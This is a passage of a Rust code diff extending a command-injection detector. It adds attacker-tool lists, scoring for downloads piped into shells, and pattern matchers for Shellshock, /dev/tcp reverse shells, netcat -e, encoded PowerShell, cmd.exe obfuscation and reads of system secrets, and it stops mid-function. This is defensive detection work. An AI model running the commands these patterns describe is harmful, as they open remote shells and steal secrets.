@@ -55,6 +55,8 @@ pub struct CmdiDetector {
     case_insensitive: bool,
     /// Also know the cmd.exe builtins.
     windows_builtins: bool,
+    /// Also know attacker tools, Windows commands and PowerShell cmdlets absent from PATH.
+    tools: bool,
 }
 
 impl CmdiDetector {
@@ -70,6 +72,7 @@ impl CmdiDetector {
             commands,
             case_insensitive: cfg!(windows),
             windows_builtins: true,
+            tools: true,
         }
     }
 
@@ -79,7 +82,14 @@ impl CmdiDetector {
             commands: names.into_iter().map(Into::into).collect(),
             case_insensitive: false,
             windows_builtins: false,
+            tools: false,
         }
+    }
+
+    /// Also knows the fixed list of attacker tools and Windows commands (tests).
+    pub fn with_tools(mut self) -> Self {
+        self.tools = true;
+        self
     }
 
     /// Whether `name` counts as a command (tests and diagnostics).
@@ -101,16 +111,69 @@ impl CmdiDetector {
                 "server-side include directive '<!--#exec' runs a command",
             ));
         }
-        if !text.bytes().any(|b| SHELL_BYTES[b as usize]) {
-            return None;
+        let mut best = shapes::special(text);
+        if text.bytes().any(|b| SHELL_BYTES[b as usize]) || self.first_word_known(text) {
+            self.lex_views(text, &mut best);
         }
+        // Payload lists often carry a newline as the two characters `\n`, at the start of the
+        // value (after a closing quote or separator) or at its end.
+        let head = text.trim_start_matches([' ', '\'', '"', ';', '|', '&']);
+        if head.starts_with("\\n") || head.starts_with("\\r") || text.trim_end().ends_with("\\n") {
+            let lines = text
+                .replace("\\r\\n", "\n")
+                .replace("\\n", "\n")
+                .replace("\\r", "\n");
+            self.lex_views(&lines, &mut best);
+        }
+        // Payloads written for query strings use '+' for a space.
+        if text.contains('+') && !text.contains(char::is_whitespace) {
+            self.lex_views(&text.replace('+', " "), &mut best);
+        }
+        let best = best?;
+        (best.score >= THRESHOLD).then(|| Finding::new(Check::Cmdi, best.score, best.evidence))
+    }
+
+    /// Whether the first word of the value could name a command (cheap test before lexing a
+    /// value that has no separator or substitution).
+    fn first_word_known(&self, text: &str) -> bool {
+        let first = text.split_whitespace().next().unwrap_or("");
+        if first.len() > 96 {
+            return false;
+        }
+        let word: String = first
+            .chars()
+            .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
+            .collect();
+        let word = word.trim_start_matches(['{', ',']);
+        let word = word.split(',').next().unwrap_or("");
+        word.starts_with('/')
+            || word.starts_with('%')
+            || word.contains(['?', '*', '['])
+            || self.known(word)
+    }
+
+    /// Lexes and scores one view, also read as if it started inside a quote; keeps the best.
+    fn lex_views(&self, text: &str, best: &mut Option<Scored>) {
         let trimmed = text.trim();
         // Markdown table rows ("| date | time |") use pipes as cell borders.
-        let table_row = trimmed.len() > 2
-            && trimmed.starts_with("| ")
-            && trimmed.ends_with(" |")
-            && !trimmed.contains([';', '&', '`', '$']);
-        let mut best: Option<Scored> = None;
+        let row = |l: &str| {
+            let l = l.trim();
+            l.len() > 2 && l.starts_with(['|', '+']) && l.ends_with(['|', '+'])
+        };
+        let lines = trimmed.lines().take(256).filter(|l| !l.trim().is_empty());
+        let (rows, total) = lines.fold((0, 0), |(r, n), l| (r + usize::from(row(l)), n + 1));
+        let table_row = !trimmed.contains([';', '&', '`', '$'])
+            && ((trimmed.starts_with("| ") && trimmed.ends_with(" |"))
+                || (total > 1 && rows * 2 >= total));
+        // "$ cmd" lines are a terminal transcript pasted into documentation.
+        let prompt = |p: usize| {
+            trimmed
+                .get(p + 2..)
+                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphabetic()))
+        };
+        let transcript = (trimmed.starts_with("$ ") && prompt(0))
+            || text.contains("\n$ ")
+            || text.contains("\n    $ ");
         for start in [None, Some(b'\''), Some(b'"')] {
             if let Some(q) = start {
                 if !text.as_bytes().contains(&q) {
@@ -122,6 +185,7 @@ impl CmdiDetector {
                 det: self,
                 src: text,
                 table_row,
+                transcript,
                 globs: 0,
                 assigned: Vec::new(),
                 best: None,
@@ -132,12 +196,10 @@ impl CmdiDetector {
                     s.evidence.push_str(" (value read as closing a quote)");
                 }
                 if best.as_ref().is_none_or(|b| s.score > b.score) {
-                    best = Some(s);
+                    *best = Some(s);
                 }
             }
         }
-        let best = best?;
-        (best.score >= THRESHOLD).then(|| Finding::new(Check::Cmdi, best.score, best.evidence))
     }
 
     fn known(&self, name: &str) -> bool {
@@ -147,11 +209,20 @@ impl CmdiDetector {
         if self.commands.contains(name) {
             return true;
         }
-        if !self.case_insensitive && !self.windows_builtins {
+        if self.tools && builtins::TOOLS.contains(&name.strip_suffix(".exe").unwrap_or(name)) {
+            return true;
+        }
+        if !self.case_insensitive && !self.windows_builtins && !self.tools {
             return false;
         }
         let lower = name.to_ascii_lowercase();
-        if self.windows_builtins && builtins::WINDOWS.contains(&lower.as_str()) {
+        if self.tools {
+            let stem = lower.strip_suffix(".exe").unwrap_or(&lower);
+            if builtins::WINDOWS_TOOLS.contains(&stem) || is_cmdlet(name) {
+                return true;
+            }
+        }
+        if (self.windows_builtins || self.tools) && builtins::WINDOWS.contains(&lower.as_str()) {
             return true;
         }
         if self.case_insensitive {
@@ -257,6 +328,18 @@ fn glob_match(p: &[u8], n: &[u8]) -> bool {
                 star = Some((pi, ni));
                 pi += 1;
             }
+            Some(b'[') if class_match(&p[pi..], n[ni]).is_some_and(|(m, _)| m) => {
+                pi += class_match(&p[pi..], n[ni]).map_or(1, |(_, len)| len);
+                ni += 1;
+            }
+            Some(b'[') if class_match(&p[pi..], n[ni]).is_some() => match star {
+                Some((sp, sn)) => {
+                    pi = sp + 1;
+                    ni = sn + 1;
+                    star = Some((sp, sn + 1));
+                }
+                None => return false,
+            },
             Some(&c) if c == n[ni] => {
                 pi += 1;
                 ni += 1;
@@ -272,6 +355,32 @@ fn glob_match(p: &[u8], n: &[u8]) -> bool {
         }
     }
     p[pi.min(p.len())..].iter().all(|&c| c == b'*')
+}
+
+/// A `[...]` class at the start of `p`: whether `c` is in it and the class's length; `None`
+/// when there is no closing bracket (the `[` is then literal).
+fn class_match(p: &[u8], c: u8) -> Option<(bool, usize)> {
+    let mut i = 1;
+    let negate = matches!(p.get(1), Some(b'!' | b'^'));
+    if negate {
+        i += 1;
+    }
+    let start = i;
+    let mut hit = false;
+    while i < p.len().min(64) {
+        let x = p[i];
+        if x == b']' && i > start {
+            return Some((hit != negate, i + 1));
+        }
+        if p.get(i + 1) == Some(&b'-') && p.get(i + 2).is_some_and(|&y| y != b']') {
+            hit |= (x..=p[i + 2]).contains(&c);
+            i += 3;
+        } else {
+            hit |= x == c;
+            i += 1;
+        }
+    }
+    None
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -689,6 +798,16 @@ impl<'a> Lexer<'a> {
         }
         let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
         let prev = self.i.checked_sub(1).and_then(|j| self.at(j));
+        if self.at(self.i + 1) == Some(b'`') && self.at(self.i + 2) == Some(b'`') {
+            // "```": a markdown code fence, never a substitution.
+            while self.at(self.i) == Some(b'`') {
+                self.i += 1;
+            }
+            if w.text.len() + 3 <= MAX_WORD {
+                w.text.push_str("```");
+            }
+            return;
+        }
         if self.at(self.i + 1) == Some(b'`') {
             // "``": an empty substitution between letters hides a word break (`pi``ng`);
             // elsewhere it is the reStructuredText/markdown literal delimiter.
@@ -758,7 +877,7 @@ impl<'a> Lexer<'a> {
                     None => self.take_char(w),
                 }
             }
-            Some(b'@' | b'*' | b'!' | b'0'..=b'9') => {
+            Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') => {
                 self.i += 2;
                 *hidden_pending = true;
             }
@@ -776,9 +895,69 @@ impl<'a> Lexer<'a> {
                 }
                 w.var = true;
             }
-            // $'...' and $"..." are quotes with a prefix.
-            Some(b'\'' | b'"') if !in_dquote => self.i += 1,
+            Some(b'\'') if !in_dquote => self.ansi_c(w),
+            // $"..." is a quote with a prefix.
+            Some(b'"') if !in_dquote => self.i += 1,
             _ => self.take_char(w),
+        }
+    }
+}
+
+impl Lexer<'_> {
+    /// `$'...'`: bash decodes `\xHH`, octal and letter escapes; attackers spell words with them.
+    fn ansi_c(&mut self, w: &mut Word) {
+        self.i += 2;
+        w.quote_opens = w.quote_opens.saturating_add(1);
+        while let Some(c) = self.at(self.i) {
+            if c == b'\'' {
+                self.i += 1;
+                return;
+            }
+            if c != b'\\' {
+                self.take_char(w);
+                continue;
+            }
+            let (radix, max, skip) = match self.at(self.i + 1) {
+                Some(b'x') => (16, 2, 2),
+                Some(b'0'..=b'7') => (8, 3, 1),
+                Some(e) => {
+                    let ch = match e {
+                        b'n' => '\n',
+                        b't' => '\t',
+                        b'r' => '\r',
+                        _ => e as char,
+                    };
+                    if w.text.len() < MAX_WORD && e.is_ascii() {
+                        w.text.push(ch);
+                    }
+                    self.i += 2;
+                    continue;
+                }
+                None => {
+                    self.i += 1;
+                    return;
+                }
+            };
+            self.i += skip;
+            let mut v: u32 = 0;
+            let mut n = 0;
+            while n < max {
+                match self.at(self.i).and_then(|d| (d as char).to_digit(radix)) {
+                    Some(d) => {
+                        v = v * radix + d;
+                        self.i += 1;
+                        n += 1;
+                    }
+                    None => break,
+                }
+            }
+            if let Some(ch) = char::from_u32(v).filter(|c| c.is_ascii() && n > 0) {
+                w.escaped = true;
+                w.unquoted_chars = true;
+                if w.text.len() < MAX_WORD {
+                    w.text.push(ch);
+                }
+            }
         }
     }
 }
@@ -915,12 +1094,17 @@ struct Cand {
     scored: Scored,
     sep: Option<usize>,
     seg_end: usize,
+    /// Reached by `|` and runs its input as code (`| sh`).
+    interp_after_pipe: bool,
+    /// Downloads a URL (`curl`, `wget`).
+    fetcher: bool,
 }
 
 struct Analysis<'d, 'a> {
     det: &'d CmdiDetector,
     src: &'a str,
     table_row: bool,
+    transcript: bool,
     globs: u32,
     /// Variable names assigned at command positions so far (`CMD=...`).
     assigned: Vec<String>,
@@ -964,8 +1148,15 @@ impl Analysis<'_, '_> {
                 Tok::Redirect => redirect_target = true,
                 Tok::RParen => opener = None,
                 Tok::Word(w) => {
-                    let after_sep =
-                        matches!(opener, Some((Opener::Sep { .. } | Opener::Subst { .. }, _)));
+                    // A line of prose is not a shell context for a backtick span (markdown).
+                    let after_sep = match opener {
+                        Some((Opener::Sep { kind, prefix, .. }, _)) => {
+                            kind != SepKind::Newline
+                                || matches!(prefix, Prefix::Start | Prefix::Quote | Prefix::Single)
+                        }
+                        Some((Opener::Subst { .. }, _)) => true,
+                        _ => false,
+                    };
                     let at_cmd = opener.is_some() && !after_redirect;
                     // The word after `<`, `>` is a file (also how `</script>` lexes); the
                     // command position carries on past it (`>f cmd`).
@@ -979,7 +1170,7 @@ impl Analysis<'_, '_> {
                         } else if is_keyword(&w.text) {
                             opener = Some((op, sep));
                         } else if let Some(c) = self.candidate(toks, i, op, sep) {
-                            seg_known = true;
+                            seg_known = c.scored.score >= 0.3;
                             cands.push(c);
                         }
                     }
@@ -992,6 +1183,7 @@ impl Analysis<'_, '_> {
                         && toks.iter().filter(|t| matches!(t, Tok::Word(_))).count() == 1;
                     for s in &w.substs {
                         let shell_like = s.glued
+                            || is_assignment(&w.text)
                             || seg_known
                             || whole_value
                             || (after_sep && at_cmd && w.text.is_empty());
@@ -1002,10 +1194,30 @@ impl Analysis<'_, '_> {
             }
             i += 1;
         }
+        for k in 1..cands.len() {
+            let fed = cands[k - 1].seg_end;
+            if cands[k].interp_after_pipe && cands[k].sep == Some(fed) {
+                let (add, what) = if cands[k - 1].fetcher {
+                    (0.5, ", a download piped into an interpreter")
+                } else {
+                    (0.35, ", another command's output piped into an interpreter")
+                };
+                cands[k].scored.score += add;
+                cands[k].scored.evidence.push_str(what);
+            }
+        }
         for k in 0..cands.len() {
-            let next_follows = cands
-                .get(k + 1)
-                .is_some_and(|n| n.sep == Some(cands[k].seg_end));
+            // Lines of documentation follow each other; only shell separators chain commands.
+            let next_follows = cands.get(k + 1).is_some_and(|n| {
+                n.sep == Some(cands[k].seg_end)
+                    && !matches!(
+                        toks.get(cands[k].seg_end),
+                        Some(Tok::Sep {
+                            kind: SepKind::Newline,
+                            ..
+                        })
+                    )
+            });
             if next_follows {
                 cands[k].scored.score += 0.1;
                 cands[k]
@@ -1049,6 +1261,8 @@ impl Analysis<'_, '_> {
             return Prefix::Start;
         };
         match prev {
+            // A line after markup ("</h2>\n") is not the start of a value.
+            Tok::Redirect if kind == SepKind::Newline => Prefix::Other,
             Tok::Sep { .. } | Tok::LParen | Tok::Redirect => Prefix::Start,
             Tok::RParen if glued && kind != SepKind::Newline => Prefix::Quote,
             Tok::RParen | Tok::Comment => Prefix::Other,
@@ -1116,10 +1330,8 @@ impl Analysis<'_, '_> {
             .iter()
             .position(|t| matches!(t, Tok::Sep { .. } | Tok::RParen))
             .map_or(toks.len(), |p| i + p);
-        // Shell code with no separator after its first command ("ls -la /tmp") is not an
-        // injection into a command line; newline-separated lines are judged per line.
-        if matches!(op, Opener::ValueStart)
-            && !matches!(toks.get(seg_end), Some(Tok::Sep { kind, .. }) if *kind != SepKind::Newline)
+        // A value that starts with markup ("<h2>...") is not a command line.
+        if matches!(op, Opener::ValueStart) && i > 0 && matches!(toks.first(), Some(Tok::Redirect))
         {
             return None;
         }
@@ -1138,7 +1350,7 @@ impl Analysis<'_, '_> {
         let ctx = match op {
             Opener::ValueStart => {
                 why.push("command at the start of the value".into());
-                0.15
+                0.2
             }
             Opener::Sep {
                 kind,
@@ -1208,29 +1420,51 @@ impl Analysis<'_, '_> {
             }
             How::Variable => {
                 score += 0.2;
-                format!("variable '{name}' assigned earlier in the value, run as the command")
+                format!("variable '{name}' (assigned in the value or naming the shell) run as the command")
             }
             How::Brace => {
                 score += 0.35;
                 format!("command '{name}' in a {{cmd,arg}} brace list")
             }
         };
-        if let Some(wr) = wrapper {
+        let value_start = matches!(op, Opener::ValueStart);
+        if let Some(wr) = &wrapper {
             cmd_desc.push_str(&format!(" (through '{wr}')"));
+            if value_start {
+                // "sudo id", "nohup whoami": a wrapper only ever wraps a command.
+                score += if STRONG_WRAPPERS.contains(&wr.as_str()) {
+                    0.2
+                } else {
+                    0.1
+                };
+            }
         }
         why.push(cmd_desc);
+        let tool = self.det.tools && is_tool(&name);
+        if value_start && tool {
+            score += 0.15;
+            why.push("a tool attackers run".into());
+        }
+        let lname = name.to_ascii_lowercase();
+        let lname = lname.strip_suffix(".exe").unwrap_or(&lname).to_string();
 
         // Arguments.
         let mut strong: Vec<&'static str> = Vec::new();
         let (mut medium, mut plain, mut nargs) = (false, 0usize, 0usize);
         let mut ifs = cmd.ifs;
         let mut comment = false;
+        let mut danger: Option<&'static str> = None;
+        let mut prev_flag_code = false;
         for t in &toks[ci + 1..seg_end] {
             match t {
                 Tok::Word(a) => {
                     nargs += 1;
                     ifs |= a.ifs;
                     let raw = self.src.get(a.start..a.end).unwrap_or("");
+                    if let Some(d) = dangerous_arg(&lname, a, raw, prev_flag_code) {
+                        danger.get_or_insert(d);
+                    }
+                    prev_flag_code = is_code_flag(&lname, &a.text);
                     let label = match arg_kind(a, raw) {
                         ArgKind::Flag => Some("flag"),
                         ArgKind::Path => Some("path"),
@@ -1269,27 +1503,50 @@ impl Analysis<'_, '_> {
             score += 0.35;
             why.push("words split with $IFS".into());
         }
+        if let Some(d) = danger {
+            score += 0.4;
+            why.push(d.into());
+        }
+        if value_start && strong == ["redirection"] {
+            // "if size > limit": a lone '>' in a whole value is a comparison as often as not.
+            strong.clear();
+            medium = true;
+        }
         if !strong.is_empty() {
             score += (0.3 + 0.1 * (strong.len() - 1) as f32).min(0.45);
             if medium {
                 score += 0.1;
             }
             why.push(format!("shell arguments ({})", strong.join(", ")));
+        } else if medium && value_start && plain > 0 {
+            // "sleep 8 hours": a number among words is prose.
         } else if medium {
             score += 0.15;
             why.push("argument shaped like a number, host or file".into());
+        } else if danger.is_some() {
+            // Subcommands and parameters of a dangerous command are words.
         } else if ctx < 0.45 && plain >= 2 {
             score -= 0.2;
         } else if ctx < 0.45 && plain == 1 {
             score -= 0.05;
         }
-        if plain >= 3 {
+        if plain >= 3 && danger.is_none() {
             // A sentence, not an argument list.
             score -= 0.25;
         }
 
         // What ends the command.
         let after = toks.get(seg_end);
+        // Only line breaks left: a form field's trailing newline does not continue the value.
+        let value_ends = toks[seg_end..].iter().all(|t| {
+            matches!(
+                t,
+                Tok::Sep {
+                    kind: SepKind::Newline,
+                    ..
+                }
+            )
+        });
         let glued_terminator = matches!(
             after,
             Some(Tok::Sep { space_before: false, kind, .. }) if *kind != SepKind::Newline
@@ -1307,6 +1564,10 @@ impl Analysis<'_, '_> {
             Some(Tok::Word(w)) => w.tail_quote,
             _ => false,
         };
+        if nargs == 0 && value_start && value_ends && builtins::PROBES.contains(&lname.as_str()) {
+            score += 0.2;
+            why.push("the whole value is a reconnaissance command".into());
+        }
         if nargs == 0 {
             if value_is_command && (comment || glued_terminator) {
                 score += 0.35;
@@ -1314,7 +1575,7 @@ impl Analysis<'_, '_> {
             } else if comment || glued_terminator || last_tail_quote {
                 score += 0.2;
                 why.push("then a terminator".into());
-            } else if after.is_none() {
+            } else if value_ends {
                 score += 0.1;
                 why.push("ending the value".into());
             }
@@ -1325,10 +1586,34 @@ impl Analysis<'_, '_> {
         if self.table_row {
             score -= 0.3;
         }
+        if self.transcript {
+            score -= 0.3;
+        }
+        let prose_line = matches!(
+            op,
+            Opener::Sep {
+                kind: SepKind::Newline,
+                prefix: Prefix::Prose | Prefix::Other | Prefix::UrlParam,
+                ..
+            }
+        );
+        if prose_line && danger.is_none() {
+            // Documentation shows command lines on lines of their own.
+            score = score.min(THRESHOLD - 0.05);
+        }
         if matches!(op, Opener::Subst { weak: true, .. }) {
             // A markdown code span never flags by itself, whatever it contains.
             score = score.min(THRESHOLD - 0.05);
         }
+        let piped = sep.is_some_and(|s| {
+            matches!(
+                toks.get(s),
+                Some(Tok::Sep {
+                    kind: SepKind::Pipe,
+                    ..
+                })
+            )
+        });
         Some(Cand {
             scored: Scored {
                 score,
@@ -1336,6 +1621,8 @@ impl Analysis<'_, '_> {
             },
             sep,
             seg_end,
+            interp_after_pipe: piped && builtins::INTERPRETERS.contains(&lname.as_str()),
+            fetcher: builtins::FETCHERS.contains(&lname.as_str()),
         })
     }
 
@@ -1358,6 +1645,9 @@ impl Analysis<'_, '_> {
             let Some(Tok::Word(w)) = toks.get(j) else {
                 break;
             };
+            if matches!(w.text.as_str(), "$SHELL" | "${SHELL}" | "$BASH") {
+                return Some((j, w.text.clone(), How::Variable, wrapper_name));
+            }
             if let Some(name) = variable_name(&w.text) {
                 if self.assigned.iter().any(|a| a == name) {
                     // `CMD=...;$CMD`: the value defines what it runs.
@@ -1405,13 +1695,24 @@ impl Analysis<'_, '_> {
             return None;
         }
         if let Some(inner) = text.strip_prefix('{').and_then(|t| t.strip_suffix('}')) {
-            let first = inner.split(',').next().filter(|_| inner.contains(','))?;
+            let first = inner
+                .split(',')
+                .find(|p| !p.is_empty())
+                .filter(|_| inner.contains(','))?;
             let (name, _) = self.lookup(first)?;
             return Some((name, How::Brace));
+        }
+        if matches!(text, "$SHELL" | "$BASH" | "$COMSPEC") {
+            // Variables that name the shell itself.
+            return Some((text.to_string(), How::Variable));
         }
         if text.starts_with('$') {
             // A variable names no command this machine has.
             return None;
+        }
+        if self.det.tools && is_cmd_variable(text) {
+            // `%COMSPEC%`, `%ProgramFiles:~10,1%`: cmd.exe expands it to a program.
+            return Some((text.to_string(), How::Obfuscated("a cmd.exe variable")));
         }
         let (name, how) = self.lookup(text)?;
         let obfuscation = if w.escaped {
@@ -1433,7 +1734,10 @@ impl Analysis<'_, '_> {
 
     /// A command name, an absolute path to one, or a glob matching one.
     fn lookup(&mut self, text: &str) -> Option<(String, How)> {
-        let wildcards = text.bytes().filter(|&c| c == b'?' || c == b'*').count();
+        let wildcards = text
+            .bytes()
+            .filter(|&c| c == b'?' || c == b'*' || c == b'[')
+            .count();
         if let Some(p) = text.rfind('/') {
             if !text.starts_with('/') {
                 return None;
@@ -1447,10 +1751,13 @@ impl Analysis<'_, '_> {
                     None
                 };
             }
-            return self
-                .det
-                .known(base)
-                .then(|| (base.to_string(), How::AbsPath));
+            // Only a program directory makes the path a strong sign ("/api/test" is a route).
+            let how = if text[..p].contains("bin") {
+                How::AbsPath
+            } else {
+                How::Plain
+            };
+            return self.det.known(base).then(|| (base.to_string(), how));
         }
         if wildcards > 0 {
             // Prose ends questions with "?": only inner wildcards with two letters count.
@@ -1471,6 +1778,119 @@ impl Analysis<'_, '_> {
         }
         self.globs += 1;
         self.det.glob(pattern)
+    }
+}
+
+/// Wrappers that only ever run a command (unlike `time` or `nice`, also English words).
+const STRONG_WRAPPERS: &[&str] = &["sudo", "doas", "nohup", "busybox", "xargs", "strace", "env"];
+
+/// A command attackers use whether or not this machine has it.
+fn is_tool(name: &str) -> bool {
+    if builtins::TOOLS.contains(&name) || is_cmdlet(name) {
+        return true;
+    }
+    let lower = name.to_ascii_lowercase();
+    let stem = lower.strip_suffix(".exe").unwrap_or(&lower);
+    builtins::WINDOWS_TOOLS.contains(&stem)
+}
+
+/// A PowerShell cmdlet name: `Verb-Noun`, both capitalized (`Invoke-WebRequest`), so that
+/// English compounds ("add-on", "set-up") are not cmdlets.
+fn is_cmdlet(name: &str) -> bool {
+    let Some((verb, noun)) = name.split_once('-') else {
+        return false;
+    };
+    let cap = |w: &str| w.bytes().next().is_some_and(|c| c.is_ascii_uppercase());
+    cap(verb)
+        && cap(noun)
+        && noun.len() >= 3
+        && noun.bytes().all(|c| c.is_ascii_alphanumeric())
+        && builtins::PS_VERBS.contains(&verb.to_ascii_lowercase().as_str())
+}
+
+/// `%NAME%` or `%NAME:~start,len%` (one or more): a cmd.exe environment variable.
+fn is_cmd_variable(text: &str) -> bool {
+    let b = text.as_bytes();
+    b.len() >= 3
+        && b[0] == b'%'
+        && b[b.len() - 1] == b'%'
+        && b[1].is_ascii_alphabetic()
+        && b.iter().filter(|&&c| c == b'%').count() % 2 == 0
+        && b.iter().all(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, b'_' | b'%' | b':' | b'~' | b',' | b'-')
+        })
+}
+
+/// The flag after which an interpreter's next argument is code (`python -c`, `perl -e`,
+/// `php -r`, `powershell -Command`).
+fn is_code_flag(cmd: &str, flag: &str) -> bool {
+    builtins::INTERPRETERS.contains(&cmd)
+        && matches!(
+            flag.to_ascii_lowercase().as_str(),
+            "-c" | "-e" | "-r" | "-command" | "/c" | "/k"
+        )
+}
+
+/// An argument that makes the command an attack by itself, whatever the context.
+fn dangerous_arg(cmd: &str, a: &Word, raw: &str, code_follows: bool) -> Option<&'static str> {
+    let t = a.text.to_ascii_lowercase();
+    if t.contains("/dev/tcp/") || t.contains("/dev/udp/") {
+        return Some("a shell connected to the network through /dev/tcp");
+    }
+    let is_path = t.contains(['/', '\\']) || raw.contains('\\');
+    // The raw text keeps Windows backslashes that the shell reading removes.
+    let r = raw.to_ascii_lowercase();
+    if is_path
+        && builtins::SECRETS
+            .iter()
+            .any(|s| t.contains(s) || r.contains(s))
+    {
+        return Some("reads a system secret");
+    }
+    let flag = t.starts_with('-') && t.len() > 1;
+    if matches!(cmd, "which" | "whereis" | "where")
+        && (is_tool(&a.text) || builtins::INTERPRETERS.contains(&t.as_str()))
+    {
+        return Some("looks for an attack tool");
+    }
+    if cmd == "alias" && is_assignment(a.text.trim_start_matches(['\'', '"'])) {
+        return Some("defines a shell alias");
+    }
+    if builtins::ADMIN_SUBCOMMANDS
+        .iter()
+        .any(|(c, subs)| *c == cmd && subs.contains(&t.as_str()))
+    {
+        return Some("a Windows administration command");
+    }
+    match cmd {
+        "nc" | "ncat" | "netcat" if flag && (t[1..].contains('e') || t == "-c") => {
+            Some("netcat runs a program for a remote peer")
+        }
+        "bash" | "sh" | "zsh" | "dash" | "ksh" if t == "-i" => Some("an interactive shell"),
+        "powershell" | "pwsh"
+            if flag && t.len() >= 2 && "-encodedcommand".starts_with(t.as_str()) && t != "-" =>
+        {
+            Some("an encoded PowerShell command")
+        }
+        "cmd" if t == "/c" || t == "/k" || t == "/r" => Some("cmd.exe runs a command line"),
+        _ if builtins::FETCHERS.contains(&cmd) && t.contains("://") => Some("fetches a URL"),
+        _ if code_follows
+            && [
+                "socket",
+                "exec",
+                "system",
+                "popen",
+                "pty",
+                "subprocess",
+                "/bin/",
+                "spawn",
+            ]
+            .iter()
+            .any(|k| t.contains(k)) =>
+        {
+            Some("inline code that runs a shell or opens a socket")
+        }
+        _ => None,
     }
 }
 
@@ -1518,7 +1938,7 @@ fn arg_kind(w: &Word, raw: &str) -> ArgKind {
         .substs
         .iter()
         .any(|s| s.kind != SubstKind::Backtick || s.glued);
-    if shell_subst || w.var || w.hidden_expansion {
+    if shell_subst || w.var || w.hidden_expansion || is_cmd_variable(&w.text) {
         return ArgKind::Expansion;
     }
     let t = w.text.as_str();
@@ -1619,6 +2039,233 @@ fn is_prose_word(t: &str) -> bool {
             .all(|c| c.is_alphabetic() || matches!(c, '\'' | '-' | '\u{2019}'))
 }
 
+/// Shapes that are command execution by their structure alone, whatever commands this machine
+/// has: bash function definitions (Shellshock), reverse-shell device paths, cmd.exe `FOR` and
+/// `IF` statements, cmd.exe substring expansions.
+mod shapes {
+    use super::Scored;
+
+    /// How many bytes of a value the structural matchers look at.
+    const WINDOW: usize = 4096;
+
+    pub(super) fn special(text: &str) -> Option<Scored> {
+        let end = (0..=text.len().min(WINDOW))
+            .rev()
+            .find(|&i| text.is_char_boundary(i))
+            .unwrap_or(0);
+        let t = &text[..end];
+        let hit = |score: f32, why: &str| {
+            Some(Scored {
+                score,
+                evidence: why.to_string(),
+            })
+        };
+        let lower = t.to_ascii_lowercase();
+        if function_definition(t.trim_start()) {
+            return hit(
+                0.9,
+                "bash function definition '() {' (Shellshock or a fork bomb)",
+            );
+        }
+        if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
+            return hit(
+                0.85,
+                "bash network redirection through /dev/tcp or /dev/udp",
+            );
+        }
+        if cmd_substring(t) {
+            return hit(
+                0.8,
+                "cmd.exe substring expansion %VAR:~n,m% (spells a command)",
+            );
+        }
+        for start in statement_starts(&lower) {
+            let seg = &lower[start..];
+            if cmd_for(seg) {
+                return hit(0.8, "cmd.exe FOR loop (FOR ... IN (...) DO command)");
+            }
+            if cmd_if(seg.lines().next().unwrap_or("")) {
+                return hit(0.75, "cmd.exe IF statement running a command");
+            }
+        }
+        None
+    }
+
+    /// `() {` (Shellshock) or `name(){ ...};name` (a function defined and called).
+    fn function_definition(t: &str) -> bool {
+        let name_len = t
+            .bytes()
+            .take(32)
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'.'))
+            .count();
+        let rest = &t[name_len..];
+        let Some(body) = rest.strip_prefix("()") else {
+            return false;
+        };
+        let body = body.trim_start();
+        if !body.starts_with('{') {
+            return false;
+        }
+        if name_len == 0 {
+            return true;
+        }
+        let name = &t[..name_len];
+        body.rfind('}').is_some_and(|p| {
+            let tail = body[p + 1..].trim_start();
+            tail.strip_prefix(';')
+                .is_some_and(|x| x.trim_start().starts_with(name))
+        })
+    }
+
+    /// `%NAME:~n,m%`.
+    fn cmd_substring(t: &str) -> bool {
+        let b = t.as_bytes();
+        memchr::memmem::find_iter(b, b":~").any(|p| {
+            let before = &b[..p];
+            let name = before
+                .iter()
+                .rev()
+                .take(40)
+                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                .count();
+            let opened = name > 0 && before.len() > name && before[before.len() - name - 1] == b'%';
+            let after = &b[p + 2..];
+            let num = after
+                .iter()
+                .take(12)
+                .take_while(|c| c.is_ascii_digit() || matches!(c, b',' | b'-'))
+                .count();
+            opened && num > 0 && after.get(num) == Some(&b'%')
+        })
+    }
+
+    /// Offsets where a statement may start: the value start and after `&`, `|`, `;`, `(` or a
+    /// line break (at most 64 of them).
+    fn statement_starts(t: &str) -> impl Iterator<Item = usize> + '_ {
+        std::iter::once(0)
+            .chain(
+                t.bytes()
+                    .enumerate()
+                    .filter(|(_, c)| matches!(c, b'&' | b'|' | b';' | b'(' | b'\n' | b'\r'))
+                    .map(|(i, _)| i + 1),
+            )
+            .take(64)
+            .map(move |i| {
+                i + t.as_bytes()[i.min(t.len())..]
+                    .iter()
+                    .take_while(|c| matches!(c, b' ' | b'\t' | b'@'))
+                    .count()
+            })
+    }
+
+    /// `for [/d|/r path|/l|/f "opts"] %x in (...) do command` (lowercased).
+    fn cmd_for(seg: &str) -> bool {
+        let Some(rest) = seg.strip_prefix("for") else {
+            return false;
+        };
+        if !rest.starts_with([' ', '\t']) {
+            return false;
+        }
+        let words: Vec<&str> = rest.split_whitespace().take(12).collect();
+        let Some(var) = words
+            .iter()
+            .position(|w| w.starts_with('%') && w.len() >= 2)
+        else {
+            return false;
+        };
+        if words.get(var + 1) != Some(&"in") {
+            return false;
+        }
+        let Some(open) = rest.find(" in") else {
+            return false;
+        };
+        let tail = &rest[open + 3..];
+        let Some(tail) = tail.trim_start().strip_prefix('(') else {
+            return false;
+        };
+        tail.find(')').is_some_and(|p| {
+            let after = tail[p + 1..].trim_start();
+            after.starts_with("do") && !after[2..].starts_with(|c: char| c.is_ascii_alphanumeric())
+        })
+    }
+
+    /// cmd.exe comparison operators (lowercased).
+    const CMP: &[&str] = &["equ", "neq", "lss", "leq", "gtr", "geq"];
+
+    /// Whitespace-separated words, a double-quoted stretch kept in one word (at most 12).
+    fn quoted_words(s: &str) -> Vec<String> {
+        let mut out: Vec<String> = Vec::new();
+        let mut cur = String::new();
+        let mut quoted = false;
+        for c in s.chars().take(512) {
+            if c == '"' {
+                quoted = !quoted;
+            }
+            if c.is_whitespace() && !quoted {
+                if !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
